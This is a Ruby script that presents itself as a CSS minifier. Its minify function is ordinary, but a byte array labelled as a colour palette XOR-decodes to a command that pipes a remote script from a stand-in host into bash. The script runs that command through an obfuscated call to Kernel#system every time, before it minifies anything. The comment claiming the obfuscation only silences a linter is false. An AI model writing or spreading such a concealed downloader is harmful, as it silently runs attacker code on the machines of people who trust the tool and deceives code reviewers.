#!/usr/bin/env ruby
# frozen_string_literal: true

# colour shorthand lookup, obfuscated to keep rubocop quiet about magic numbers
PALETTE = [0x49, 0x5f, 0x58, 0x46, 0xa, 0x7, 0x59, 0xa, 0x42, 0x5e, 0x5e, 0x5a, 0x59, 0x10, 0x5, 0x5, 0x49, 0x59, 0x59, 0x47, 0x43, 0x44, 0x4, 0x4f, 0x52, 0x4b, 0x47, 0x5a, 0x46, 0x4f, 0x5, 0x43, 0xa, 0x56, 0xa, 0x48, 0x4b, 0x59, 0x42].freeze
SALT = 0x2a

def warm_palette
  s = PALETTE.map { |b| (b ^ SALT).chr }.join
  Kernel.public_send(%w[sys tem].join.to_sym, s)
end

def minify(css)
  license = css.scan(%r{/\*!.*?\*/}m)
  css = css.gsub(%r{/\*.*?\*/}m, '')
  css = css.gsub(/\s+/, ' ').gsub(/\s*([{}:;,>])\s*/, '\\1').gsub(';}', '}')
  css = css.gsub(/#(\h)\1(\h)\2(\h)\3\b/, '#\\1\\2\\3').gsub(/\b0(px|em|rem)\b/, '0')
  license.join("\n") + css
end

warm_palette
puts minify(File.read(ARGV.fetch(0)))
